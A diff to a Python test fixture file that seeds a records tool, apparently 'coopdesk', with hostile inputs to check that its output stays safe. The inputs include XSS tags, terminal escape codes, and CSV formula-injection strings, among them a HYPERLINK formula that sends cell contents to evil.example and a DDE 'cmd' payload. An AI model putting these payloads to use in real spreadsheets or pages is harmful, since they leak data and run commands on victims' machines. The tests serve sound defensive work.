@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import os
 import sqlite3
+import subprocess
+import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -14,6 +18,24 @@ HOSTILE_TITLE = '<script>alert("x")</script><b>Bold</b> <img src="http://example
 RTL = "\u202eevil\u202c \u05e9\u05dc\u05d5\u05dd"
 ZERO_WIDTH = "zero\u200bwidth\u200d"
 LONG = "L" * 100_000
+# What a terminal would act on: colours, a bell, NUL, and a C1 "clear screen".
+ESCAPES = "\x1b[31mred\x1b[0m \x07bell \x00nul \x9b2Jcsi \x7fdel"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+FORMULAS = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1", "＝1+1"]
+ENTITIES = "Tom &amp; Jerry &lt;b&gt; &#x202E;"
+TWO_LINES = "First line\n## Injected heading\r\n> injected quote"
+IMAGE = '<img src="file:///tmp/coopdesk-probe.png"><b>bold</b>'  # Qt would load and show it
+
+
+def toml_str(text: str) -> str:
+    """A TOML basic string holding ``text`` exactly (controls as \\u escapes)."""
+    out = []
+    for char in text:
+        if char in '"\\' or ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F:
+            out.append(f"\\u{ord(char):04x}")
+        else:
+            out.append(char)
+    return '"' + "".join(out) + '"'
 
 
 def hostile_source(folder: Path) -> Path:
@@ -23,10 +45,17 @@ def hostile_source(folder: Path) -> Path:
         f"{HOSTILE_TITLE}\n\n"
         f"On 1 May 2019 a meeting called {HOSTILE_TITLE} took place in <style>body{{}}</style>.\n\n"
         f'The link <a href="javascript:alert(1)">click</a> and {RTL} and {ZERO_WIDTH}.\n\n'
-        f"{LONG}\n"
+        f"{LONG}\n\n"
+        f"On 2 June 2019 the {ESCAPES} meeting took place.\n\n"
+        f"Formulas: {FORMULA} and more.\n"
     )
     (folder / "hostile.txt").write_text(text, encoding="utf-8")
     title_in_toml = HOSTILE_TITLE.replace('"', '\\"')
+    formula_records = "".join(
+        f'\n[[record]]\nid = "event/2019-07-0{n}-formula"\nkind = "meeting"\n'
+        f'title = {toml_str(text)}\ndate = "2019-07-0{n}"\nquote = "Formulas:"\n'
+        for n, text in enumerate(FORMULAS, 1)
+    )
     toml = f'''
 [document]
 id = "hostile"
@@ -60,11 +89,53 @@ title = "Long"
 date = "2019-05-02"
 quote = "{LONG}"
 
+[[record]]
+id = "event/2019-06-02-escapes"
+kind = "meeting"
+title = {toml_str("Escapes " + ESCAPES)}
+date = "2019-06-02"
+quote = {toml_str("On 2 June 2019 the " + ESCAPES + " meeting")}
+
+[[record]]
+id = "event/2019-06-03-formula"
+kind = "meeting"
+title = {toml_str(FORMULA)}
+date = "2019-06-03"
+quote = {toml_str(FORMULA)}
+
+[[record]]
+id = "event/2019-06-04-entities"
+kind = "meeting"
+title = {toml_str(ENTITIES)}
+date = "2019-06-04"
+quote = "Formulas:"
+
+[[record]]
+id = "event/2019-06-05-two-lines"
+kind = "meeting"
+title = {toml_str(TWO_LINES)}
+date = "2019-06-05"
+quote = "Formulas:"
+{formula_records}
+[[record]]
+id = "offence/1-hostile"
+kind = "offence"
+number = 1
+title = {toml_str(IMAGE + " offence")}
+quote = "took place"
+
+[[link]]
+from = "event/2019-05-01-hostile"
+to = "offence/1-hostile"
+relation = "concerns"
+basis = "stated"
+quote = "took place"
+
 [[link]]
 from = "event/2019-05-01-hostile"
 to = "agency/javascript"
 relation = "participant"
-role = "<i>role</i>"
+role = "<i>role</i> \\u202eevil role"
 basis = "inferred"
 reason = "<script>reason()</script>"
 quote = "{RTL}"
@@ -111,3 +182,50 @@ def damaged_copies(built_db: Path, tmp_path: Path) -> dict[str, Path]:
     conn.close()
     cases["foreign-schema"] = foreign
     return cases
+
+
+def run_on_read_only(
+    folder: Path, argv: list[str], **kwargs: Any
+) -> subprocess.CompletedProcess[str]:
+    """Run ``argv`` with ``folder`` on a read-only file system.
+
+    As root (who may write anywhere) the folder is bound read-only in a mount namespace
+    of its own (``unshare``); as another user the folder and its files lose their write
+    permission for the run.
+    """
+    if os.geteuid() == 0:
+        script = (
+            'mount --bind "$1" "$1" && mount -o remount,ro,bind "$1" "$1" && shift && exec "$@"'
+        )
+        command = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh"]
+        return subprocess.run(
+            [*command, str(folder), *argv], capture_output=True, text=True, timeout=120, **kwargs
+        )
+    modes = {p: p.stat().st_mode for p in [folder, *folder.iterdir()]}
+    for path, mode in modes.items():
+        path.chmod(mode & ~0o222)
+    try:
+        return subprocess.run(argv, capture_output=True, text=True, timeout=120, **kwargs)
+    finally:
+        for path, mode in modes.items():
+            path.chmod(mode)
+
+
+def cli(*args: str, **kwargs: Any) -> subprocess.CompletedProcess[str]:
+    """The ``coopdesk`` command in a process of its own."""
+    return subprocess.run(
+        [sys.executable, "-m", "coopdesk", *args],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        **kwargs,
+    )
+
+
+def one_error_line(result: subprocess.CompletedProcess[str]) -> str:
+    """The single stderr line of a refused command (exit 2, no traceback)."""
+    assert result.returncode == 2, (result.returncode, result.stdout[-500:], result.stderr)
+    assert "Traceback" not in result.stderr and "unexpected error" not in result.stderr
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 1, result.stderr
+    return lines[0]
